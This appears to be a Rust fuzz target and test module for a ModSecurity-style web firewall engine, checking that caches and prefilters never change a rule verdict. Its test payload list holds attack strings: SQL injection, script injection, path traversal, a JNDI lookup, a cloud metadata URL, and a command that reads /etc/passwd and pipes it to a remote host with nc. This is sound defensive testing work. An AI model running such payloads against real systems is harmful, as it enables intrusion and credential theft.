//! The target over whole requests: what makes evaluation fast (prefilters, caches, remembered values)
//! changes no match, no variable, no score and no verdict. The slow way is the measure.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::{Arc, LazyLock};
use std::time::SystemTime;

use super::exchange::{reads_files, split_line};
use crate::{Loader, Origin, RequestLine, RuleSet, Transaction};

/// A request (request line, headers, an empty line, the body), through a small rule set and through
/// the baseline; or through the rules that stand before it, one a line.
pub fn transaction(data: &[u8]) {
    let (rules, request) = leading_rules(data);
    let request = Sent::of(request);
    if !rules.is_empty() {
        if let Some(rules) = load(&rules) {
            fast_and_plain_agree(&rules, &request);
        }
        return;
    }
    for rules in [&*RULE_SET, &*BASELINE] {
        fast_and_plain_agree(rules, &request);
    }
}

/// The rules at the start of `data`, and what follows them.
fn leading_rules(mut data: &[u8]) -> (String, &[u8]) {
    let mut rules = String::new();
    for _ in 0..MOST_RULES {
        let (line, rest) = split_line(data);
        if !["SecRule ", "SecAction ", "SecMarker "]
            .iter()
            .any(|directive| line.starts_with(directive.as_bytes()))
        {
            break;
        }
        rules.push_str(&String::from_utf8_lossy(line));
        rules.push('\n');
        data = rest;
    }
    (rules, data)
}

/// None if they do not load, read files, or keep something from one transaction to the next.
fn load(rules: &str) -> Option<Arc<RuleSet>> {
    let folded = rules.to_ascii_lowercase();
    let keeps = ["initcol", "setsid", "setuid", "setrsc"];
    if reads_files(rules) || keeps.iter().any(|word| folded.contains(word)) {
        return None;
    }
    let text = format!("SecRuleEngine On\nSecRequestBodyAccess On\n{rules}");
    let loaded = Loader::new().text("fuzz.conf", &text).load().ok()?;
    Some(Arc::new(loaded.rules))
}

/// Caches, prefilters and what is remembered of values must not change a thing. How much there is to
/// compare: matches and variables.
pub(crate) fn fast_and_plain_agree(rules: &Arc<RuleSet>, request: &Sent<'_>) -> usize {
    let plain = run(rules, request, Transaction::plainly);
    let fresh = run(rules, request, Transaction::forget);
    assert_eq!(fresh, plain, "a cache or a prefilter changed the verdict");
    // A value is remembered when it is seen the second time, and recalled the third.
    for time in 1..=3 {
        let warm = run(rules, request, |_| {});
        assert_eq!(warm, plain, "a remembered value changed verdict {time}");
    }
    plain.len()
}

/// What a client sends.
pub(crate) struct Sent<'a> {
    pub(crate) method: &'a [u8],
    pub(crate) target: &'a [u8],
    pub(crate) headers: Vec<(&'a [u8], &'a [u8])>,
    pub(crate) body: &'a [u8],
}

impl<'a> Sent<'a> {
    /// Lines: request line, headers, an empty one, the body.
    pub(crate) fn of(data: &'a [u8]) -> Self {
        let (line, mut rest) = split_line(data);
        let mut words = line.splitn(2, |byte| *byte == b' ');
        let mut headers = Vec::new();
        while !rest.is_empty() {
            let (header, after) = split_line(rest);
            rest = after;
            let mut halves = header.splitn(2, |byte| *byte == b':');
            match (halves.next(), halves.next()) {
                (Some(name), Some(value)) => headers.push((name, value.trim_ascii())),
                _ => break,
            }
        }
        Self {
            method: words.next().unwrap_or_default(),
            target: words.next().unwrap_or_default(),
            headers,
            body: rest,
        }
    }
}

/// Most rules an input may bring.
const MOST_RULES: usize = 8;

/// Touches every collection the parsers fill, with the operators that have fast paths.
const RULES: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application|text)/xml" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQBODY_ERROR "!@eq 0" "id:3,phase:2,deny,status:400,log"
SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:4,phase:2,deny,status:400,log"
SecRule ARGS|ARGS_NAMES|REQUEST_COOKIES|REQUEST_COOKIES_NAMES|FILES|XML:/*|XML://@* "@rx (?i)<script[^>]*>" "id:5,phase:2,pass,log,capture,t:none,t:urlDecodeUni,t:htmlEntityDecode,setvar:tx.score=+5,logdata:'%{TX.0} in %{MATCHED_VAR_NAME}'"
SecRule ARGS|REQUEST_URI_RAW|REQUEST_HEADERS "@pm union select sleep( /etc/passwd ../" "id:6,phase:2,pass,log,t:none,t:lowercase,t:normalizePath,chain"
    SecRule MATCHED_VARS "@rx (?:union\s+select|/etc/|\.\./)" "setvar:tx.score=+3"
SecRule ARGS "@detectSQLi" "id:7,phase:2,pass,log,setvar:tx.score=+5,multiMatch,t:none,t:urlDecode,t:replaceComments"
SecRule TX:score "@ge 5" "id:8,phase:2,deny,status:403,log,msg:'score %{tx.score}'"
"#;

#[expect(clippy::expect_used, reason = "the rules stand above")]
static RULE_SET: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
    let loaded = Loader::new().text("fuzz.conf", RULES).load();
    Arc::new(loaded.expect("the rules of the target load").rules)
});

#[expect(clippy::expect_used, reason = "the baseline's own test loads it")]
static BASELINE: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
    let loaded = Loader::new().baseline().load();
    Arc::new(loaded.expect("the baseline loads").rules)
});

fn run(rules: &Arc<RuleSet>, request: &Sent<'_>, set: impl Fn(&mut Transaction)) -> Vec<String> {
    let (mut transaction, refused) = send(rules, request, set);
    let outcome = transaction.finish();
    let mut seen: Vec<String> = outcome
        .matches
        .iter()
        .map(|hit| format!("{hit:?}"))
        .collect();
    seen.extend(transaction.variables());
    seen.push(format!(
        "{:?}",
        (outcome.inbound_score, outcome.outbound_score)
    ));
    seen.push(refused.to_string());
    seen
}

/// A request through the rules; whether they refused it.
pub(super) fn send(
    rules: &Arc<RuleSet>,
    request: &Sent<'_>,
    set: impl Fn(&mut Transaction),
) -> (Transaction, bool) {
    let line = RequestLine {
        method: request.method,
        target: request.target,
        protocol: b"HTTP/1.1",
    };
    let origin = Origin {
        client: SocketAddr::from((Ipv4Addr::LOCALHOST, 40_000)),
        server: SocketAddr::from((Ipv4Addr::LOCALHOST, 80)),
    };
    let mut transaction = rules.begin(origin, "fuzz", SystemTime::UNIX_EPOCH);
    set(&mut transaction);
    let refused = transaction
        .request_headers(line, request.headers.iter().copied())
        .is_some()
        || transaction.request_body(request.body, true).is_some();
    let answer: [(&[u8], &[u8]); 1] = [(b"Content-Type", b"text/html")];
    if !refused {
        transaction.response_headers(200, "HTTP/1.1", answer.into_iter());
        transaction.response_body(b"", true);
    }
    (transaction, refused)
}

/// Payloads of many kinds in many places.
#[cfg(test)]
pub(crate) fn attacks() -> Vec<String> {
    let mut requests = Vec::new();
    for payload in [
        "1' UNION SELECT password FROM users--",
        "<ScRiPt>alert(1)</sCrIpT>",
        "../../../../etc/passwd",
        "${jndi:ldap://x/a}",
        ";cat /etc/passwd|nc 10.0.0.1 80",
        "{{7*7}}%{{}}",
        "http://169.254.169.254/latest/meta-data",
        "&#x3c;img src=x onerror=&quot;a()&quot;&gt;",
        "\\u003cscript\\u003e %u003cb %C0%AF caf\u{e9} \u{212a}",
    ] {
        for body in [format!("a={payload}"), format!("{{\"a\":\"{payload}\"}}")] {
            for kind in ["application/x-www-form-urlencoded", "application/json"] {
                let head = format!("POST /x?q={payload} HTTP/1.1\nHost: a\nContent-Type: {kind}");
                requests.push(format!("{head}\nCookie: c={payload}\n\n{body}"));
            }
        }
    }
    requests
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    #[test]
    fn the_rules_of_the_transaction_target_are_not_idle() {
        let judged = |data: &[u8]| run(&RULE_SET, &Sent::of(data), |_| {}).pop();
        let refused = Some("true".to_owned());
        let passed = Some("false".to_owned());
        assert_eq!(judged(b"GET /a?q=%3Cscript%3E\nHost: h\n\n"), refused);
        assert_eq!(judged(b"GET /a?q=scripture\nHost: h\n\n"), passed);
        let json = b"POST /\nContent-Type: application/json\n\n{\"a\":[\"<script>\"]}";
        assert_eq!(judged(json), refused);
        let xml = b"POST /\nContent-Type: text/xml\n\n<a>&lt;script&gt;</a>";
        assert_eq!(judged(xml), refused);
        let multipart = b"POST /\nContent-Type: multipart/form-data; boundary=b\n\n\
            --b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>\r\n--b--\r\n";
        assert_eq!(judged(multipart), refused);
    }

    #[test]
    fn fast_and_plain_evaluation_agree_on_attacks() {
        for request in attacks() {
            transaction(request.as_bytes());
        }
    }

    #[test]
    fn rules_before_a_request_are_the_rules_it_meets() {
        let data = b"SecRule ARGS \"@rx ^x\" \"id:1,phase:2,deny\"\nGET /?a=xy\n\n";
        let (rules, request) = leading_rules(data);
        let judged = |data: &[u8]| {
            let rules = load(&rules).expect("the rules load");
            run(&rules, &Sent::of(data), |_| {}).pop()
        };
        assert_eq!(judged(request), Some("true".to_owned()));
        assert_eq!(judged(b"GET /?a=yx\n\n"), Some("false".to_owned()));
        assert!(load("SecRule ARGS").is_none());
        assert!(load("SecAction \"id:1,phase:1,pass,initcol:ip=a\"").is_none());
        let many = b"SecMarker A\n".repeat(MOST_RULES + 1);
        assert_eq!(leading_rules(&many).1, b"SecMarker A\n");
    }

    #[test]
    fn noise_is_a_request_too() {
        let noise: Vec<u8> = (0..=255).collect();
        transaction(b"");
        transaction(&noise);
    }

    /// The seeds, and what becomes of them when bytes of one go into another (fixed dice).
    #[test]
    fn fast_and_plain_evaluation_agree_on_the_seeds_and_on_mutations_of_them() {
        const ROUNDS: usize = 40;
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../fuzz/corpus/transaction");
        let entries = std::fs::read_dir(folder).expect("the seeds");
        let mut files: Vec<_> = entries.map(|entry| entry.expect("a seed").path()).collect();
        files.sort();
        let seeds = files
            .iter()
            .map(|file| std::fs::read(file).expect("a seed"));
        let seeds: Vec<_> = seeds.collect();
        let rounds = std::env::var("MUTATIONS").ok();
        let rounds = rounds
            .and_then(|rounds| rounds.parse().ok())
            .unwrap_or(ROUNDS);
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let mut dice = |sides: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            usize::try_from(state >> 33).expect("31 bits") % sides.max(1)
        };
        for seed in &seeds {
            transaction(seed);
            for _ in 0..rounds {
                let mut mutant = seed.clone();
                for _ in 0..=dice(3) {
                    let other = &seeds[dice(seeds.len())];
                    let from = dice(other.len());
                    let piece = &other[from..(from + dice(24)).min(other.len())];
                    let at = dice(mutant.len());
                    let end = (at + dice(8)).min(mutant.len());
                    mutant.splice(at..end, piece.iter().copied());
                }
                transaction(&mutant);
            }
        }
    }
}
